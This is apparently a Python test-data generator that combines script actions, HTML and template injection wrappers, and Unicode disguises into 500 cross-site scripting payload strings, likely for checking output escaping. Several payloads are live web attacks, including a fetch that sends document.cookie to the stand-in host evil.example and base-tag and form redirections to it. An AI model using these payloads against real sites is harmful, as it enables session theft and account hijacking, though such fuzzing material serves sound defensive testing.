"""Texts that try to be more than text in a page: 500, each another."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from typing import Final

_DEEDS: Final = (
    "alert(1)", "fetch('//evil.example/'+document.cookie)", "document.title='x'", "import('//e')",
    "navigator.sendBeacon('//e')",
)  # fmt: skip
_FORMS: Final = (
    "<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "'><body onload={}>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>",
    '" autofocus onfocus="{}', "' onmouseover='{}", "javascript:{}", "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>", "<form action=//evil.example><button>{}</button>",
    "{{{{ {} }}}}", "{{% print {} %}}", "${{{}}}", "<!--{}", "]]>{}",
    "<style>*{{background:url({})}}</style>",
    "<base href=//evil.example/{}>", "<meta http-equiv=refresh content='0;url=//e/{}'>",
    "<object data={}>", "<math><mi xlink:href='javascript:{}'>", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
)  # fmt: skip
_COATS: Final = ("{}", "Mời họp {} lúc 7 giờ", "\u202e{}\u202c", "{}\x00\x0b\u2028", "＜{}＞")


def payloads(count: int = 500) -> Iterator[str]:
    """Yield the texts."""
    each = (coat.format(form.format(deed)) for coat, form, deed in product(_COATS, _FORMS, _DEEDS))
    return islice(each, count)
